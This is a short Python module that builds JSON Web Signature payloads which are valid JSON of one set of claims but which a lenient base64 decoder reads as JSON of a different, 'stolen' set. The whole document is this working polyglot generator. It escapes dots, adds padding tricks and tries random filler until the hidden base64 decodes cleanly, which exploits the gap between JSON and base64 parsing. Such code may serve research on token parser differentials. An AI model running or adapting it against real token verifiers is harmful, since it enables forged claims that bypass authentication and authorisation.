"""Payloads of JWSs in two spellings at once: as JSON, and in base64."""

import json
import random
import re
from base64 import b64decode, b64encode


def respelt(claims, stolen, *, padded):
    """JSON of `claims` that a lenient decoder of base64 reads as JSON of `stolen`.

    It skips all characters outside the alphabet. With `padded` it stops at the padding, otherwise
    it skips that, too, and what it reads of the other members has to be text within a string.
    """
    chance = random.Random(1)

    def spelt(text):
        """A text of JSON, in which the dot, which separates the parts of a JWS, is escaped."""
        return "".join(
            f"\\u{ord(each):04x}" if each == "." or (not padded and chance.random() < 0.3) else each
            for each in text
        )

    def member(name, value):
        shown = f'"{spelt(value)}"' if isinstance(value, str) else str(value)
        return f'"{spelt(name)}":{shown}'

    head = json.dumps(stolen)[:-1]
    if padded:
        text = f"{head}}}"
        name = b64encode((text + " " * (4 - len(text) % 3)).encode()).decode()
        assert name.endswith("=")
        return "{" + ",".join([f'"{name}":0', *(member(*each) for each in claims.items())]) + "}"
    head += " " * (-(len(head) + len(',"x":"')) % 3) + ',"x":"'
    parts = [f'"{b64encode(head.encode()).decode()}":""']
    for each in claims.items():
        while True:
            filler = "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=chance.randint(1, 9)))
            tried = f'"{filler}":"",{member(*each)}'
            alphabet = re.sub(r"[^A-Za-z0-9+/]", "", tried)
            if len(alphabet) % 4 == 0 and all(
                byte >= 32 and byte not in b'"\\' for byte in b64decode(alphabet)
            ):
                break
        parts.append(tried)
    end = b64encode(b'"} ').decode()
    parts.append(f'"{end}":""')
    return "{" + ",".join(parts) + "}"
